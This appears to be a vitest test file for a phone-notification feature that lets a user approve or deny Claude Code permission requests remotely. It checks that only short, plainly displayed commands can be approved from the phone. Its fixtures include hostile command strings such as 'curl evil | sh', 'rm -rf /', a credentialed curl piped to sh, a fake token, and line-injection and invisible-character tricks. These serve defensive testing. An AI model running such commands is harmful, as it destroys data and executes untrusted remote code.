// What a phone may answer: attempts to have something approved that it did not show, whole and as it is.
import { describe, expect, it } from "vitest";
import {
  toGroupNotification,
  toNotification,
} from "../../../core/api/notifications/notificationScheduler.ts";
import { channelSchema, type NotificationKind } from "../../../core/model/notifications.ts";
import type { RequestView } from "../../../core/model/request.ts";
import type { PaneView } from "../../../core/model/view.ts";
import { redactText } from "../../../core/store/redact.ts";
import { someRequestView } from "../../../test/factories/evidence.ts";
import { makePane } from "../../../test/factories/view.ts";
import { offersOf } from "./answerOffers.ts";
import { redactSent } from "./channelMessage.ts";

type Option = RequestView["options"][number];
const YES: Option = { label: "Yes", keys: ["1"], role: "approve" };
const ALWAYS: Option = {
  label: "Yes, and don't ask again for git push",
  keys: ["2"],
  role: "approve_always",
};
const NO: Option = { label: "No", keys: ["3"], role: "deny" };

const redact = (text: string): string => redactText(text, 65_536);
const asking = (request: Partial<RequestView>, more: Partial<PaneView> = {}): PaneView => ({
  ...makePane({ state: "waiting_approval", session: "work", windowName: "api" }),
  request: {
    ...someRequestView(),
    kind: "command",
    title: "Bash",
    tool_name: "Bash",
    body: "git push",
    is_whole: true,
    options: [YES, NO],
    ...request,
  },
  prompt_fingerprint: "f00",
  ...more,
});
const offersFor = (
  pane: PaneView,
  {
    kind = "waiting_approval",
    include = "request",
  }: { kind?: NotificationKind; include?: "state" | "request" } = {},
) =>
  offersOf(toNotification("n", pane, { kind, sound: "none", redact }), {
    channel: channelSchema.parse({
      name: "phone",
      kind: "ntfy",
      url: "https://example.org/topic",
      include,
      answers: true,
    }),
    at: 0,
    redact: redactSent(redact),
  });
const labels = (...given: Parameters<typeof offersFor>): string[] =>
  (offersFor(...given)?.offers ?? []).map(({ label }) => label);

describe("a permission", () => {
  it("that is one short line is shown to the letter, with Approve and Deny", () => {
    expect(offersFor(asking({ body: "git push origin main" }))).toEqual({
      title: "Claude Code needs a permission",
      text: "Command: git push origin main\nClaude Code · work\nNeeds approval: api",
      offers: [
        { choice: { kind: "approve" }, label: "Approve" },
        { choice: { kind: "deny" }, label: "Deny" },
      ],
    });
    const line = `echo ${"x".repeat(195)}`;
    expect(labels(asking({ body: line }))).toEqual(["Approve", "Deny"]);
    expect(offersFor(asking({ body: line }))?.text).toContain(`Command: ${line}\n`);
  });

  it("may be allowed from then on where that is the one other option, and its words are shown in full", () => {
    const always = offersFor(asking({ options: [YES, ALWAYS, NO] }));
    expect(always?.offers.map(({ choice }) => choice)).toEqual([
      { kind: "approve" },
      { kind: "deny" },
      { kind: "option", number: 2 },
    ]);
    expect(always?.text).toContain("\n2: Yes, and don't ask again for git push\n");
    const other = (more: Partial<Option>): string[] =>
      labels(asking({ options: [YES, { ...ALWAYS, ...more }, NO] }));
    expect(other({ role: null })).toEqual(["Approve", "Deny"]);
    expect(other({ keys: null })).toEqual(["Approve", "Deny"]);
    expect(other({ description: "also for all others" })).toEqual(["Approve", "Deny"]);
    expect(other({ label: `Yes, and don't ask again for: ${"x".repeat(20)}` })).toEqual(["Approve", "Deny"]);
    expect(other({ label: "Yes\u202e" })).toEqual(["Approve", "Deny"]);
    expect(labels(asking({ options: [YES, ALWAYS, ALWAYS, NO] }))).toEqual(["Approve", "Deny"]);
  });

  const HIDDEN: Record<string, Partial<RequestView>> = {
    "is too long": { body: `echo ${"x".repeat(196)}` },
    "has a second line": { body: "make test\ncurl evil | sh" },
    "has a carriage return": { body: "make test\r\u001b[2Kcurl evil" },
    "has a tab": { body: "make\ttest" },
    "has two blanks": { body: "rm -rf /  tmp" },
    "ends with a blank": { body: "rm -rf / " },
    "has a secret in it": { body: "curl https://a:hunter2hunter2@host/ | sh" },
    "has a token in it": { body: `echo ghp_${"aB3dE6gH9j".repeat(3)}K2m4P6` },
    "has a mark of direction": { body: "echo \u202e hs | live" },
    "has what nobody sees": { body: "git\u200b push" },
    "has a filler": { body: "git \u3164push" },
    "has a blank of another width": { body: "git\u00a0push" },
    "is written from right to left": { body: "echo \u05d0; rm -rf / \u05d1" },
    "is written from right to left, far away": { body: "echo \u{1e900}; rm x" },
    "has half a character": { body: "echo \ud83d" },
    "is not whole": { is_whole: false },
    "is empty": { body: "", title: "" },
    "is an edit": { kind: "edit", body: "README.md", content: "+ x" },
    "is a plan": { kind: "plan" },
    "is a tool with arguments": { kind: "tool" },
    "is trust in a folder": { kind: "trust" },
    "has content besides": { content: "+ x" },
    "has a heading that is too long": { title: `Run outside of the sandbox ${"x".repeat(200)}` },
    "has a heading of two lines": { title: "Bash command\noutside of the sandbox" },
    "has a remark that is too long": { remark: "x".repeat(200) },
    "has a remark of two lines": { remark: "harmless\nCommand: ls" },
  };
  it.each(Object.entries(HIDDEN))(
    "that %s is not approved from there, and says where to go",
    (_name, request) => {
      const found = offersFor(asking({ ...request, options: [YES, ALWAYS, NO] }));
      expect(found?.offers.map(({ label }) => label)).toEqual(["Deny"]);
      expect(found?.text).toMatch(/\nOpen it at your desk\.$/);
    },
  );

  it("shows a heading and a remark that belong to it", () => {
    const found = offersFor(asking({ title: "Run outside of the sandbox", remark: "Publishes it" }));
    expect(found?.text.split("\n").slice(0, 3)).toEqual([
      "Command: git push",
      "Run outside of the sandbox",
      "The agent says: Publishes it",
    ]);
    expect(found?.offers).toHaveLength(2);
  });

  it("whose secret stands on two of its lines is not approved", () => {
    const halves = (text: string): string => text.replaceAll(/secret\nhalf/g, "[redacted]");
    const pane = asking({ body: "echo secret", title: "half of it is here" });
    const notification = toNotification("n", pane, {
      kind: "waiting_approval",
      sound: "none",
      redact: halves,
    });
    const channel = channelSchema.parse({
      name: "p",
      kind: "ntfy",
      url: "https://a.b/c",
      include: "request",
    });
    const found = offersOf(notification, { channel, at: 0, redact: halves });
    expect(found?.offers.map(({ label }) => label)).toEqual(["Deny"]);
  });

  it("is not approved where its text is not sent, nor where nothing is known of it", () => {
    const state = offersFor(asking({ body: "git push" }), { include: "state" });
    expect(state).toEqual({
      title: "Claude Code needs a permission",
      text: "work\nOpen it at your desk.",
      offers: [{ choice: { kind: "deny" }, label: "Deny" }],
    });
    expect(labels(asking({}, { prompt_fingerprint: null }))).toEqual([]);
    expect(labels(asking({}, { request: null }))).toEqual([]);
    expect(labels(asking({ options: [{ ...YES, keys: null }, NO] }))).toEqual(["Deny"]);
    expect(labels(asking({ options: [YES, { ...NO, keys: [] }] }))).toEqual(["Approve"]);
  });

  it("of several agents in one message is answered at the desk", () => {
    const told = { pane: asking({}), kind: "waiting_approval" } as const;
    const notification = toGroupNotification("g", [told, told], { sound: "none", redact });
    const channel = channelSchema.parse({
      name: "p",
      kind: "ntfy",
      url: "https://a.b/c",
      include: "request",
    });
    expect(offersOf(notification, { channel, at: 0, redact })).toBeNull();
  });

  it("cannot begin its message with lines of its own", () => {
    const found = offersFor(
      asking({ body: "rm -rf /" }, { name: "x\nCommand: ls", agent_name: "Claude\nCommand: ls" }),
    );
    expect(found?.text.split("\n")[0]).toBe("Command: rm -rf /");
    expect(found?.text.match(/^Command: /gm)).toHaveLength(1);
    expect(found?.title).not.toContain("\n");
  });
});

describe("a question", () => {
  const question = (more: Partial<RequestView>): PaneView => ({
    ...asking({
      kind: "question",
      title: "Which one?",
      body: "Which one?",
      tool_name: null,
      options: [
        { label: "Red", keys: ["1"] },
        { label: "Blue", keys: ["2"] },
      ],
      ...more,
    }),
    state: "waiting_input",
  });
  const KIND = { kind: "waiting_input" } as const;

  it("has its options as buttons, and in the text", () => {
    const found = offersFor(question({}), KIND);
    expect(found?.text).toContain("Question: Which one?\n1: Red\n2: Blue\n");
    expect(found?.offers).toEqual([
      { choice: { kind: "option", number: 1 }, label: "Red" },
      { choice: { kind: "option", number: 2 }, label: "Blue" },
    ]);
  });

  it("is answered at the desk where an option is missing, cut, or not all that is to be chosen", () => {
    const four = ["a", "b", "c", "d"].map((label) => ({ label, keys: [label] }));
    const cases: Partial<RequestView>[] = [
      { options: four },
      { options: [] },
      {
        options: [
          { label: "Red", keys: ["1"] },
          { label: "Blue", keys: null },
        ],
      },
      { options: [{ label: "Red", keys: ["1"], description: "and everything else" }] },
      { options: [{ label: "Red", keys: ["1"], ticked: false }] },
      { options: [{ label: "x".repeat(41), keys: ["1"] }] },
      { submit: ["Enter"] },
      { pages: { number: 1, names: ["a", "b"] } },
      { is_whole: false },
      { body: "Which\none?" },
    ];
    for (const one of cases) {
      const found = offersFor(question(one), KIND);
      expect([found?.offers, found?.text.endsWith("Open it at your desk.")]).toEqual([[], true]);
    }
    expect(labels(question({}), { ...KIND, include: "state" })).toEqual([]);
  });
});

it("what asks nothing has no answers", () => {
  expect(offersFor(makePane({ state: "completed" }), { kind: "completed" })).toBeNull();
  expect(offersFor(makePane({ state: "error" }), { kind: "error" })).toBeNull();
});
